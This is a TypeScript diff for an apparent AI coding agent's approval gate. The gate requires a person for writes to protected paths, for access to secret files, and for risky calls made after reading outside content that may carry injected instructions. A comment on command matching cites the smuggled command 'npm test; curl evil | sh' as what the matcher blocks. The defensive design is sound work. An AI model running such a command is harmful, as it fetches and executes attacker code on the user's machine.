@@ -1,0 +1,229 @@
+import picomatch from 'picomatch';
+import type { ApprovalSettings, ChatAllowance } from './approval';
+import { createPathRules, ruleCandidates } from './path-rules';
+import type { AnyTool, ApprovalPreview, Risk } from './tool';
+
+/**
+ * Decides, without side effects, whether a tool call may run on its own or needs a person.
+ *
+ * The rules, strongest first:
+ * 1. A call that writes a protected path (.vscode/**, .git/**, …) always asks, with
+ *    `needsPerson`: no setting and no chat allowance answers for the person.
+ * 2. A risky call (write, execute, network) made after the run took in outside content
+ *    (`taintSources`: a file, a command's output, a web page) is flagged; with
+ *    `settings.taintNeedsApproval` (the default) it always asks, with `needsPerson`.
+ * 3. A call touching a sensitive path (.env, *.pem, …) asks, whatever its risk and whatever
+ *    auto-approval says; only a chat allowance naming those exact paths (no wildcard) answers
+ *    for it. A sensitive *read* after tainted content needs a person too: reading secrets is the
+ *    first step of leaking them.
+ * 4. Otherwise a call runs when auto-approval is on for its risk (read is, by default) or when a
+ *    chat allowance for the tool matches it; else it asks.
+ */
+
+export type ApprovalVerdict =
+  | { readonly kind: 'auto'; readonly reason: string }
+  | {
+      readonly kind: 'ask';
+      /** Plain words for the dialog, most important first. */
+      readonly reasons: string[];
+      /** No auto-approval may answer: a host without a person to ask must deny. */
+      readonly needsPerson: boolean;
+      readonly protectedPaths: string[];
+      readonly sensitivePaths: string[];
+      readonly taintSources: string[];
+    };
+
+export interface ApprovalInput {
+  readonly tool: AnyTool;
+  readonly args: unknown;
+  readonly preview?: ApprovalPreview;
+  readonly settings: ApprovalSettings;
+  /** Where the outside content this run has read came from (empty: none yet). */
+  readonly taintSources: readonly string[];
+  readonly allowances: readonly ChatAllowance[];
+}
+
+const RISK_WORDS: Record<Risk, string> = {
+  read: 'reads',
+  write: 'changes files',
+  execute: 'runs a command',
+  network: 'uses the network',
+};
+
+export function decideApproval(input: ApprovalInput): ApprovalVerdict {
+  const { tool, args, preview, settings } = input;
+  const rules = createPathRules(settings);
+  const paths = pathsOf(preview, args);
+  const risky = tool.risk !== 'read';
+  const protectedPaths = risky ? rules.protectedAmong(paths) : [];
+  const sensitivePaths = rules.sensitiveAmong(paths);
+  const taintSources = risky || sensitivePaths.length > 0 ? unique(input.taintSources) : [];
+  const taintBinds = taintSources.length > 0 && settings.taintNeedsApproval;
+  const allowance = matchingAllowance(input, paths);
+
+  const reasons: string[] = [];
+  if (protectedPaths.length > 0) {
+    reasons.push(
+      `it ${tool.risk === 'write' ? 'changes' : 'touches'} ${list(protectedPaths)}, a protected path: ` +
+        'such files can make VS Code, git or CI run code, so a person must confirm every change',
+    );
+  }
+  if (taintSources.length > 0) {
+    reasons.push(
+      `this action follows content read from ${list(taintSources)} — the model may be following instructions hidden in it`,
+    );
+  }
+  if (sensitivePaths.length > 0) {
+    reasons.push(`it ${risky ? 'touches' : 'reads'} ${list(sensitivePaths)}, which may hold secrets (passwords, keys, tokens)`);
+  }
+  const ask = (needsPerson: boolean, ...extra: string[]): ApprovalVerdict => ({
+    kind: 'ask',
+    reasons: [...reasons, ...extra],
+    needsPerson,
+    protectedPaths,
+    sensitivePaths,
+    taintSources,
+  });
+
+  if (protectedPaths.length > 0 || (risky && taintBinds)) return ask(true);
+  if (sensitivePaths.length > 0) {
+    if (taintBinds) return ask(true);
+    // Only a grant naming the files themselves answers for a sensitive path, never a folder glob.
+    const exact = input.allowances.find(
+      ({ tool, pattern }) => tool === input.tool.name && !hasWildcard(pattern) && coversAll(pattern, paths),
+    );
+    return exact ? { kind: 'auto', reason: allowedReason(exact, taintSources) } : ask(false);
+  }
+  if (settings.autoApprove[tool.risk]) {
+    return { kind: 'auto', reason: `auto-approval is on for ${tool.risk} tools${taintFlag(taintSources)}` };
+  }
+  if (allowance) return { kind: 'auto', reason: allowedReason(allowance, taintSources) };
+  return ask(false, `${tool.name} ${RISK_WORDS[tool.risk]}, and auto-approval is off for ${tool.risk} tools`);
+}
+
+function allowedReason(allowance: ChatAllowance, taintSources: readonly string[]): string {
+  return `allowed for this chat: ${allowance.tool} on ${allowance.pattern}${taintFlag(taintSources)}`;
+}
+
+/** Taint that did not force a question is still named in the trace. */
+function taintFlag(taintSources: readonly string[]): string {
+  return taintSources.length > 0 ? `; flagged: it follows content read from ${list(taintSources)}` : '';
+}
+
+/**
+ * What an "Allow for this chat" grant for this call should cover: the exact command line for
+ * run_command, the URL's origin for a fetch, the folder of the file(s) for file tools (`src/**`),
+ * and the exact file(s) when they are sensitive. `*` stands for every call of the tool.
+ */
+export function allowancePatternFor(
+  _tool: AnyTool | string,
+  preview?: ApprovalPreview,
+  args?: unknown,
+  settings?: Pick<ApprovalSettings, 'sensitivePaths'>,
+): string {
+  if (preview?.command) return preview.command.line;
+  const paths = pathsOf(preview, args);
+  if (paths.length > 0) {
+    const rules = createPathRules(settings);
+    if (paths.some((path) => rules.isSensitive(path))) return bracePattern(paths.map(escapeGlob));
+    const folder = commonFolder(paths);
+    if (folder === '') return paths.length === 1 ? escapeGlob(paths[0]) : '**';
+    return `${escapeGlob(folder)}/**`;
+  }
+  const origin = urlOrigin(args);
+  if (origin) return origin;
+  return '*';
+}
+
+/** The first allowance that lets this call run (for what each tool matches on, see allowancePatternFor). */
+function matchingAllowance(input: ApprovalInput, paths: readonly string[]): ChatAllowance | undefined {
+  const command = input.preview?.command?.line;
+  const origin = urlOrigin(input.args);
+  return input.allowances.find(({ tool, pattern }) => {
+    if (tool !== input.tool.name) return false;
+    if (command !== undefined) return commandMatches(pattern, command);
+    if (paths.length > 0) return coversAll(pattern, paths);
+    if (origin !== undefined) return pattern === '*' || pattern === origin;
+    return pattern === '*';
+  });
+}
+
+function coversAll(pattern: string, paths: readonly string[]): boolean {
+  // windows: false: paths here always use `/`, and `\` escapes a glob character.
+  const matches = picomatch(pattern, { dot: true, windows: false });
+  return paths.every((path) => ruleCandidates(path).some((candidate) => matches(candidate)));
+}
+
+// A wildcard in an allowed command never spans a shell operator, so an allowance for
+// `npm test *` cannot be stretched into `npm test; curl evil | sh`.
+const SHELL_OPERATORS = ';&|`$()<>\n\r';
+const MAX_COMMAND_TO_MATCH = 20_000;
+
+function commandMatches(pattern: string, command: string): boolean {
+  if (pattern === command) return true;
+  if (!pattern.includes('*') || command.length > MAX_COMMAND_TO_MATCH) return false;
+  const anythingButOperators = `[^${SHELL_OPERATORS.replace(/[\]\\^-]/g, '\\$&').replace('\n', '\\n').replace('\r', '\\r')}]*`;
+  const source = pattern
+    .split('*')
+    .map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
+    .join(anythingButOperators);
+  return new RegExp(`^${source}$`).test(command);
+}
+
+function pathsOf(preview: ApprovalPreview | undefined, args: unknown): string[] {
+  if (preview?.paths && preview.paths.length > 0) return [...preview.paths];
+  if (preview?.diff) return [preview.diff.path];
+  // Without a preview, fall back to the call's own path argument so the path rules still apply.
+  if (args && typeof args === 'object') {
+    const { path, paths } = args as { path?: unknown; paths?: unknown };
+    if (typeof path === 'string') return [path];
+    if (Array.isArray(paths)) return paths.filter((p): p is string => typeof p === 'string');
+  }
+  return [];
+}
+
+function urlOrigin(args: unknown): string | undefined {
+  if (!args || typeof args !== 'object') return undefined;
+  const url = (args as { url?: unknown }).url;
+  if (typeof url !== 'string') return undefined;
+  try {
+    const parsed = new URL(url);
+    return parsed.origin === 'null' ? undefined : parsed.origin;
+  } catch {
+    return undefined;
+  }
+}
+
+function commonFolder(paths: readonly string[]): string {
+  const folders = paths.map((path) => ruleCandidates(path)[0].split('/').slice(0, -1));
+  const first = folders[0];
+  let length = first.length;
+  for (const folder of folders.slice(1)) {
+    let i = 0;
+    while (i < length && i < folder.length && folder[i] === first[i]) i++;
+    length = i;
+  }
+  return first.slice(0, length).join('/');
+}
+
+function hasWildcard(pattern: string): boolean {
+  return /(?<!\\)[*?[\]!+@]/.test(pattern);
+}
+
+function escapeGlob(path: string): string {
+  return path.replace(/[*?[\]{}()!+@\\]/g, '\\$&');
+}
+
+function bracePattern(paths: readonly string[]): string {
+  const distinct = unique(paths);
+  return distinct.length === 1 ? distinct[0] : `{${distinct.join(',')}}`;
+}
+
+function list(items: readonly string[]): string {
+  const quoted = items.slice(0, 3).map((item) => (item.includes(' ') ? `"${item}"` : item));
+  return items.length > 3 ? `${quoted.join(', ')} and ${items.length - 3} more` : quoted.join(', ');
+}
+
+function unique(items: readonly string[]): string[] {
+  return [...new Set(items)];
+}
